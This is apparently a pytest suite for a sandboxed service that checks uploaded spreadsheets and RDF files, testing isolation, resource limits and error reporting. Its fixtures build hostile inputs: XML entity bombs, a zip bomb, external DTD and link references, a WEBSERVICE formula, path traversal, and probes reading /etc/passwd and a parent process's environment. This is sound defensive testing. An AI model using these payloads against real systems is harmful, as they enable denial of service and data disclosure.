"""The process in which strangers' files are judged: what it cannot reach, when it is ended, what it tells."""

import io
import json
import socket
import sys
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import date
from typing import Any

import pytest

from graph.errors import UnknownName
from graph.ingest.templates import make_template
from server.checking import Gate, Order
from server.checking.failures import CheckBusy, CheckFault, CheckOutOfMemory, CheckTimeout
from tests.handing_in import DAY, DRAFT, MARKER, PREFIXES, archive, evidence, small_graph, with_part
from tests.test_engine_barrier import Listener

PATIENCE = 300  # seconds
DAY_ASKED = date.fromisoformat(DAY)


@pytest.fixture(scope="module")
def graph() -> bytes:
    return small_graph()


@pytest.fixture(scope="module")
def gate() -> Gate:
    return Gate(2, PATIENCE)


@pytest.fixture
def listener() -> Iterator[Listener]:
    listening = Listener()
    yield listening
    listening.door.shutdown(socket.SHUT_RDWR)
    listening.door.close()


def doing(code: str) -> tuple[str, ...]:
    """Give the program with something else in the place of the answer: `code` makes the value that is told."""
    start = f"""
import server.checking.process as process
from graph.submissions import Answer
def answer(asked):
    import os, socket, subprocess, time
    {code}
process.answer = answer
process.main()"""
    return (sys.executable, "-P", "-c", start)


def order(*files: tuple[str, bytes], draft: bool = False, selection: dict[str, str] | None = None) -> Order:
    return Order(files or (("a.csv", evidence()),), DAY_ASKED, draft=draft, selection=selection or {})


# --- what it can reach ---

PROBE = """
    def tried(way):
        try:
            way()
        except Exception as error:
            return type(error).__name__
        return "done"
    return Answer({
        "socket": tried(lambda: socket.create_connection(("127.0.0.1", 9))),
        "socket itself": tried(lambda: socket.socket()),
        "program": tried(lambda: subprocess.run(["/bin/true"])),
        "read": tried(lambda: open("/etc/passwd").read()),
        "environment of the server": tried(lambda: open(f"/proc/{os.getppid()}/environ").read()),
        "write": tried(lambda: open("/tmp/consulaire-probe", "w").write("x")),
        "write in the project": tried(lambda: open("consulaire-probe", "w").write("x")),
        "anonymous file": tried(lambda: os.write(os.memfd_create("x"), b"x")),
        "many files": tried(lambda: [open(os.__file__) for _ in range(100)]),
    })"""


def test_nothing_is_reached_from_behind_the_barrier(graph: bytes) -> None:
    told, _ = Gate(1, PATIENCE, program=doing(PROBE)).judge(order(), graph)
    assert len(told) == 9
    assert "done" not in told.values(), told
    assert told["socket itself"] == told["read"] == told["write"] == "PermissionError"


def rdf_bomb() -> bytes:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 20}">' for n in range(1, 9))
    return (
        f'<?xml version="1.0"?><!DOCTYPE rdf:RDF [<!ENTITY e0 "{"x" * 1000}">{entities}]>'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:a="http://a/">'
        '<rdf:Description rdf:about="http://a/a"><a:b>&e8;</a:b></rdf:Description></rdf:RDF>'
    ).encode()


def billion_laughs() -> bytes:
    """Write XML that would unfold to far more than it is."""
    entities = "".join(f'<!ENTITY {chr(97 + n)}{n} "{"&a;" * 50}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">{entities}]><x>&b1;</x>'.encode()


def dtd_of(address: str) -> bytes:
    """Write XML that refers to a DTD elsewhere."""
    doctype = f'<!DOCTYPE x SYSTEM "{address}x.dtd" [<!ENTITY % p SYSTEM "{address}p">%p;]>'
    return f'<?xml version="1.0"?>{doctype}<x/>'.encode()


def hostile_spreadsheets(address: str) -> dict[str, tuple[str, bytes]]:
    """Give spreadsheets that try to take memory, or to reach an address."""
    link = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
        f'Target="{address}book.xlsx" TargetMode="External"/></Relationships>'
    ).encode()
    far = b'<c r="XFD1048576" t="n"><v>1</v></c><c r="A1"'
    xml = b"<?xml version='1.0' encoding='UTF-8'?>"
    return {
        "zip bomb": ("a.xlsx", archive({"[Content_Types].xml": b"", "xl/workbook.xml": b" " * 200_000_000})),
        "many parts": ("a.ods", archive({f"{n}.xml": b"" for n in range(2_000)})),
        "laughs in ODS": ("a.ods", with_part(".ods", "content.xml", xml, billion_laughs())),
        "laughs in XLSX": ("a.xlsx", archive({"[Content_Types].xml": billion_laughs()})),
        "a DTD elsewhere in ODS": ("a.ods", archive({"META-INF/manifest.xml": dtd_of(address), "content.xml": b""})),
        "a link": ("a.xlsx", with_part(".xlsx", "xl/externalLinks/_rels/externalLink1.xml.rels", b"", link)),
        "a formula that asks": ("a.csv", evidence(name=f"=WEBSERVICE('{address}')")),
        "a path in a part": ("a.xlsx", archive({"../../../tmp/consulaire-probe": b"x"})),
        "a far cell": ("a.xlsx", with_part(".xlsx", "xl/worksheets/sheet1.xml", b'<c r="A1"', far)),
        "not what it says": ("a.ods", b"\x7fELF" + bytes(1_000)),
    }


def hostile_rdf(address: str) -> dict[str, tuple[str, bytes]]:
    """Give RDF that tries to take memory, to read files or to reach an address."""
    context = {"@context": f"{address}context", "@id": f"{address}a", "label": "x"}
    facts = f"<{address}a> <http://www.w3.org/2002/07/owl#imports> <{address}b> , <file:///etc/passwd> .\n"
    base = f"@base <{address}> .\n<#a> <http://www.w3.org/2000/01/rdf-schema#seeAlso> <c> .\n"
    return {
        "laughs in RDF": ("a.rdf", rdf_bomb()),
        "a DTD elsewhere": ("a.rdf", dtd_of(address)),
        "a context elsewhere": ("a.jsonld", json.dumps(context).encode()),
        "imports": ("a.ttl", facts.encode()),
        "a base elsewhere": ("a.ttl", base.encode()),
        "deep nesting": ("a.ttl", b"<a:a> <a:b> " + b"[ <a:b> " * 200_000),
    }


def test_hostile_files_reach_nothing_and_are_told(graph: bytes, gate: Gate, listener: Listener) -> None:
    files = hostile_spreadsheets(listener.address) | hostile_rdf(listener.address)
    assert len(files) == 16
    outcomes = {}
    for name, file in files.items():
        try:
            told, _ = gate.judge(order(file), graph)
            outcomes[name] = "judged" if told["judged"] else "refused"
            assert told["judged"] or all(one["reason_fr"] and one["reason_en"] for one in told["faults"])
        except (CheckFault, CheckOutOfMemory) as error:
            outcomes[name] = type(error).__name__
    assert listener.contacts == 0
    harmless = {name for name, outcome in outcomes.items() if outcome == "judged"}
    assert harmless <= {"a link", "a formula that asks", "imports", "a base elsewhere"}, outcomes
    assert not {"CheckFault"} & set(outcomes.values()), outcomes


# --- its limits ---


def test_it_is_ended_at_the_time_limit(graph: bytes) -> None:
    begun = time.monotonic()
    with pytest.raises(CheckTimeout, match="after 3 s, the time limit"):
        Gate(1, 3, program=doing("time.sleep(600)")).judge(order(), graph)
    assert time.monotonic() - begun < 60


def test_it_is_ended_at_the_memory_limit(graph: bytes) -> None:
    hungry = doing("held = [bytearray(1 << 20) for _ in range(100_000)]")
    with pytest.raises(CheckOutOfMemory, match="more than 400 MiB"):
        Gate(1, PATIENCE, memory=400, program=hungry).judge(order(), graph)


def test_an_answer_without_end_is_not_taken(graph: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("server.checking.gate._LONGEST_ANSWER", 1_000_000)
    with pytest.raises(CheckFault):
        Gate(1, PATIENCE, program=doing('return Answer({}, b"x" * 50_000_000)')).judge(order(), graph)


def test_a_fault_of_ours_names_its_place_and_nothing_of_the_files(
    graph: bytes, capfd: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(CheckFault) as raised:
        Gate(1, PATIENCE, program=doing("raise KeyError(asked.files[0].content)")).judge(order(), graph)
    assert raised.value.reason.startswith("KeyError, ")
    assert MARKER not in f"{raised.value}{raised.value.french}{capfd.readouterr()}"


def test_a_process_that_dies_is_told(graph: bytes) -> None:
    for code in ("os._exit(7)", "os.kill(os.getpid(), 9)"):
        with pytest.raises(CheckFault, match="its process ended with"):
            Gate(1, PATIENCE, program=doing(code)).judge(order(), graph)


def test_so_many_are_judged_at_once_and_one_more_is_told_when_to_come_back(graph: bytes) -> None:
    slow = Gate(2, PATIENCE, program=doing("time.sleep(4); return Answer({'judged': True})"))
    begin = threading.Barrier(3)

    def ask() -> Any:
        begin.wait()
        try:
            return slow.judge(order(), graph)[0]["judged"]
        except CheckBusy as error:
            return error.retry_after

    with ThreadPoolExecutor(3) as pool:
        outcomes = [one.result() for one in [pool.submit(ask) for _ in range(3)]]
    assert sorted(map(str, outcomes)) == ["10", "True", "True"]
    assert slow.judge(order(), graph)[0]["judged"]  # the places are free again


def test_two_at_once_get_each_their_own_verdicts(graph: bytes, gate: Gate) -> None:
    days = ("2024-01-10", "2024-06-01")
    with ThreadPoolExecutor(2) as pool:
        asked = [pool.submit(gate.judge, order(("a.csv", evidence(day=day))), graph) for day in days]
    found = [one.result()[0]["verdicts"][0]["status"] for one in asked]
    assert found == ["met", "met-late"]


# --- what it tells ---


def test_what_the_graph_says_alone_is_computed_once_for_a_day(graph: bytes, gate: Gate) -> None:
    first, _ = gate.judge(order(), graph)
    again, _ = gate.judge(order(), graph)
    assert first == again
    assert first["verdicts"][0]["before"] == "overdue-no-evidence"
    telling = Gate(1, PATIENCE, program=doing("return Answer({'known': asked.before}, before={'id:x': 'met'})"))
    known = [telling.judge(order(), told)[0]["known"] for told in (graph, graph, graph + b"\n")]
    assert known == [None, {"id:x": "met"}, None]


def test_a_name_that_is_none_is_told_with_the_nearest(graph: bytes, gate: Gate) -> None:
    with pytest.raises(UnknownName, match=r"Nearest: CCI Delta"):
        gate.judge(order(selection={"body": "CCI Delt"}), graph)


def test_tables_may_name_what_other_files_describe(graph: bytes, gate: Gate) -> None:
    agreement = PREFIXES + 'id:instr-new a cons:Agreement ; dcterms:type def:kind-com ; rdfs:label "COM neuve"@fr .\n'
    agreement += "id:instr-new cons:party id:org-cci-delta , id:org-cci-france .\n"
    told, _ = gate.judge(order(("a.csv", evidence(shows="COM neuve")), ("b.ttl", agreement.encode())), graph)
    assert told["judged"], told["faults"]
    assert [(one["name"], one["kind"]) for one in told["files"]] == [("b.ttl", "rdf"), ("a.csv", "evidence")]
    assert told["verdicts"][0]["rests_on"][0]["shows_fr"] == "COM neuve"


def test_a_row_under_other_headings_is_not_guessed_at(graph: bytes, gate: Gate) -> None:
    told, _ = gate.judge(order(("a.csv", b"a,b,c\n1,2,3\n")), graph)
    assert "evidence" in told["faults"][0]["reason_en"]
    assert "aucun modèle" in told["faults"][0]["reason_fr"]


@pytest.mark.parametrize(
    ("text", "told_fr"),
    [
        (DRAFT.replace("id:instr-draft a", "[] a"), "nœud anonyme|blank node"),
        (PREFIXES + 'id:x rdfs:label "x"@fr .\n', "aucune convention"),
        ("", "ne dit rien"),
    ],
)
def test_a_draft_without_an_agreement_is_refused(text: str, told_fr: str, graph: bytes, gate: Gate) -> None:
    told, _ = gate.judge(order(("d.ttl", text.encode()), draft=True), graph)
    assert not told["judged"]
    assert any(part in told["faults"][0]["reason_fr"] for part in told_fr.split("|"))


def test_a_filled_spreadsheet_is_read_as_its_csv_is(graph: bytes, gate: Gate) -> None:
    for ending in (".xlsx", ".ods"):
        told, _ = gate.judge(order((f"a{ending}", make_template("evidence", ending))), graph)
        columns = {one["column"] for one in told["faults"] if one["severity"] == "error"}
        assert columns == {"obligation", "montre"}  # the example names what the small graph has not
    assert io.BytesIO(make_template("evidence", ".xlsx")).read(2) == b"PK"
